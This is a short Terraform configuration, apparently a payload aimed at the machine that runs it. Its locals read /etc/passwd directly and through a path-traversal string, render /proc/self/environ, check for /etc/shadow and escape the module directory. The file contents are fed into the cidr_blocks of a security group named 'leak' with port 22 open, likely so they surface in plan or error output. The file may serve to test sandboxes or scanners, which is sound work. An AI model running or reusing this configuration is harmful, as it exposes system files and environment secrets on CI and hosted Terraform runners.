locals {
  a = file("/etc/passwd")
  b = file("../../../../../../etc/passwd")
  c = templatefile("/proc/self/environ", {})
  d = fileexists("/etc/shadow")
  e = file("${path.module}/../../../../etc/hostname")
}
resource "aws_security_group" "leak" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = [local.a, local.b, local.c, local.e]
  }
}
